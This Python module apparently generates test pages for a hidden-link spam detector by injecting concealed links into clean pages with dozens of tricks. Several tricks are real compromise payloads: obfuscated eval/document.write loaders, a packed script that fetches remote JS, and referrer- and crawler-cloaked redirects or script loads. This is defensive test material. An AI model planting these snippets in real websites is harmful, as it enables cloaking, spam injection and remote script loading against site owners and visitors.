"""Ways to put links on a page that its readers do not see: each is put into clean pages of every kind.

What is advertised is drawn from the packed hints, or from harmless catchwords: a trick must be found by what it does
where no word gives it away. `Trick.needs_hint` are those which only a word tells from what menus do.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

from mingcha.standards.link_hints import is_harmful, stems
from quality.links.clean_pages import KINDS, stranger

CATCHWORDS = "家庭装修 翻译价格 网站优化 减肥产品 搬家电话 鲜花速递 挖掘机租赁 水泵报价 隔热膜 学车多少钱".split()
SURE = tuple(stem for stem in stems() if not stem.isascii() and is_harmful(f"{stem}官网"))
DRAWN = 4


def word(draw: random.Random, *, hint: bool) -> str:
    return draw.choice(SURE) + draw.choice(("官网", "平台", "")) if hint else draw.choice(CATCHWORDS)


def links(draw: random.Random, *, hint: bool, number: int = 3) -> str:
    shown = (word(draw, hint=hint) for _ in range(number))
    told = [f'<a href="http://{stranger(draw)}/{draw.choice(("", "a.html", "?id=3"))}">{one}</a>' for one in shown]
    return draw.choice(("", "|", "\n", "<br>")).join(told)


@dataclass(frozen=True)
class Trick:
    """`make` gives what is put into the page, from what decides by lot and from links; `into` where: body, end, head."""

    name: str
    make: Callable[[random.Random, str], str]
    needs_hint: bool = False
    into: str = "end"


def _box(style: str) -> Callable[[random.Random, str], str]:
    return lambda draw, some: f'<{(tag := draw.choice(("div", "span", "p", "ul")))} style="{style}">{some}</{tag}>'


def _sheet(rule: str, *, name: str = "") -> Callable[[random.Random, str], str]:
    def make(draw: random.Random, some: str) -> str:
        called = name or draw.choice("qxzvk") + str(draw.randint(10, 99))
        by = draw.choice(("class", "id"))
        return f"<style>{'.' if by == 'class' else '#'}{called}{{{rule}}}</style><div {by}='{called}'>{some}</div>"

    return make


def _written(draw: random.Random, some: str) -> str:
    opening = draw.choice(
        ("<div style=\\'display:none\\'>", "<div style=\\'position:absolute;top:-999px;left:-999px\\'>")
    )
    return f"<script>document.write('{opening}');</script>{some}<script>document.write('</div>');</script>"


def _unescaped(draw: random.Random, some: str) -> str:
    return f'<script>document.write(unescape("{quote(some, safe="")}"));</script>'


def _char_codes(draw: random.Random, some: str) -> str:
    codes = ",".join(str(ord(letter)) for letter in f"document.write('{some}')".replace("\n", " "))
    return f"<script>eval(String.fromCharCode({codes}));</script>"


def _base64(draw: random.Random, some: str) -> str:
    return f'<script>document.write(atob("{base64.b64encode(some.encode()).decode()}"));</script>'


def _hex(draw: random.Random, some: str) -> str:
    coded = "".join(f"\\x{byte:02x}" if byte < 128 else chr(byte) for byte in _ascii(some).encode())
    return f'<script>document["\\x77\\x72\\x69\\x74\\x65"]("{coded}");</script>'


def _packed(draw: random.Random, some: str) -> str:
    host = stranger(draw).split(".")
    words = "|".join(("document", "write", "script", "src", "http", *host, "j", "js"))
    return (
        "<script>eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c])}}return p}"
        f"('0.1(\"<2 3=4://5.6.7/8.9></2>\")',10,10,'{words}'.split('|'),0,{{}}))</script>"
    )


def _ascii(some: str) -> str:
    return (
        "".join(letter if ord(letter) < 128 else f"&#{ord(letter)};" for letter in some)
        .replace('"', "'")
        .replace("\n", "")
    )


def _by_script(draw: random.Random, some: str) -> str:
    called = draw.choice("qxzvk") + str(draw.randint(10, 99))
    how = draw.choice(
        ('style.display="none"', 'style.position="absolute";x', "style.cssText='position:absolute;left:-5000px'")
    )
    how = how.partition(";x")[0] if "display" in how or "cssText" in how else 'style.display="none"'
    return f'<div id="{called}">{some}</div><script>document.getElementById("{called}").{how};</script>'


def _referrer(draw: random.Random, some: str) -> str:
    searchers = draw.choice(("/baidu|sogou|so\\.com/i", "/google|bing|baidu/"))
    if draw.random() < 0.5:
        return f'<script>if({searchers}.test(document.referrer)){{location.href="http://{stranger(draw)}/";}}</script>'
    return (
        "<script>var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0)"
        f"{{document.write('<script src=\"http://{stranger(draw)}/s.js\"><\\/script>');}}</script>"
    )


def _spider(draw: random.Random, some: str) -> str:
    return (
        "<script>if(/baiduspider|360spider|sogou/i.test(navigator.userAgent))"
        f'{{var s=document.createElement("script");s.src="//{stranger(draw)}/t.js";document.body.appendChild(s);}}</script>'
    )


def _title(draw: random.Random, some: str) -> str:
    told = "，".join(word(draw, hint=True) for _ in range(3))
    if draw.random() < 0.5:
        told = "".join(f"&#{ord(letter)};" for letter in told)
    return draw.choice(
        (
            f"<title>{told}</title>",
            f'<meta name="keywords" content="{told}">',
            f'<meta content="{told}" name="description">',
        )
    )


def _frame(draw: random.Random, some: str) -> str:
    size = draw.choice(
        (
            'width="0" height="0"',
            'width="1" height="1"',
            'style="width:0;height:0;border:0"',
            "width=1 height=1 frameborder=0",
        )
    )
    return f'<iframe src="http://{stranger(draw)}/" {size}></iframe>'


def _marquee(draw: random.Random, some: str) -> str:
    return draw.choice(
        (
            f"<marquee height=1 width=4 scrollamount=3000 scrolldelay=20000>{some}</marquee>",
            f'<marquee width="0" height="0">{some}</marquee>',
        )
    )


def _wordless(draw: random.Random, some: str) -> str:
    ending = draw.choice(("xyz", "top", "icu"))
    return "".join(
        f'<a href="http://{stranger(draw)}.{ending}/">{draw.choice((".", "", "&nbsp;", "​"))}</a>' for _ in range(3)
    )


def _parasite(draw: random.Random, some: str) -> str:
    told = "".join(f'<a href="/news/{draw.randint(1, 99)}.asp?k={n}">{word(draw, hint=True)}</a>' for n in range(5))
    return f'<div style="{draw.choice(("display:none", "height:0;overflow:hidden"))}">{told}</div>'


TRICKS = (
    Trick("display none", _box("display:none")),
    Trick("display none, blanks and capitals", _box("DISPLAY : NONE ;")),
    Trick("display none, important", _box("display:none !important")),
    Trick("visibility", _box("visibility:hidden")),
    Trick("opacity", _box("opacity:0;filter:alpha(opacity=0)")),
    Trick("no room", _box("height:0;overflow:hidden")),
    Trick("one pixel of room", _box("width:1px;height:1px;overflow:hidden")),
    Trick("no height at most", _box("max-height:0;overflow:hidden")),
    Trick("left of the screen", _box("position:absolute;left:-9999px")),
    Trick("above the screen", _box("position:fixed;top:-1000px;left:0")),
    Trick("left by margin", _box("margin-left:-2000px")),
    Trick("left by em", _box("position:absolute;left:-999em")),
    Trick("indented", _box("text-indent:-9999px")),
    Trick("size nought", _box("font-size:0")),
    Trick("size one", _box("font-size:1px;line-height:1px")),
    Trick("size by percent", _box("font-size:1%")),
    Trick("white on white", _box("color:#FFFFFF;background-color:#fff")),
    Trick("nearly white", _box("color:rgb(254,254,254);background:white")),
    Trick("no colour", _box("color:rgba(0,0,0,0)")),
    Trick("clipped", _box("position:absolute;clip:rect(0 0 0 0)")),
    Trick("clip path", _box("clip-path:inset(100%)")),
    Trick("scaled", _box("transform:scale(0)")),
    Trick("hidden attribute", lambda draw, some: f"<div hidden>{some}</div>"),
    Trick(
        "old attributes",
        lambda draw, some: f'<table bgcolor="#ffffff"><tr><td><font color="white">{some}</font></td></tr></table>',
    ),
    Trick("sheet: off the screen", _sheet("position:absolute;left:-9999px")),
    Trick("sheet: size nought", _sheet("font-size:0px")),
    Trick("sheet: white on white", _sheet("color:#fff;background:#fff")),
    Trick("sheet: display none", _sheet("display:none"), needs_hint=True),
    Trick("sheet: named like a menu", _sheet("display:none", name="submenu"), needs_hint=True),
    Trick("behind", _box("position:absolute;z-index:-1"), needs_hint=True),
    Trick(
        "in a menu", lambda draw, some: f'<ul class="nav"><li style="display:none">{some}</li></ul>', needs_hint=True
    ),
    Trick("noscript", lambda draw, some: f"<noscript>{some}</noscript>", needs_hint=True),
    Trick("comment", lambda draw, some: f"<!-- {some} -->", needs_hint=True),
    Trick("frame of a pixel", _frame),
    Trick("marquee of a pixel", _marquee),
    Trick("no words to click", _wordless),
    Trick("written round", _written),
    Trick("hidden by script", _by_script),
    Trick("percent signs", _unescaped),
    Trick("character codes", _char_codes),
    Trick("base64", _base64),
    Trick("hex", _hex),
    Trick("packed", _packed),
    Trick("by referrer", _referrer),
    Trick("by agent", _spider),
    Trick("title", _title, needs_hint=True, into="head"),
    Trick("pages of its own", _parasite, needs_hint=True),
)


def hidden_pages() -> Iterator[tuple[str, str]]:
    """Name and source of every page with a trick in it."""
    for trick in TRICKS:
        for number in range(DRAWN):
            draw = random.Random(f"{trick.name}{number}")
            hint = trick.needs_hint or number % 2 == 0
            some = links(draw, hint=hint, number=draw.randint(1, 6))
            page = KINDS[(number * 5 + len(trick.name)) % len(KINDS)](draw)
            put = trick.make(draw, some)
            mark = "</head>" if trick.into == "head" else draw.choice(("</body>", '<div class="footer">', "<body>"))
            page = page.replace(mark, mark + put if mark == "<body>" else put + mark, 1)
            yield f"{trick.name} {number}{' with a hint' if hint else ''}", page
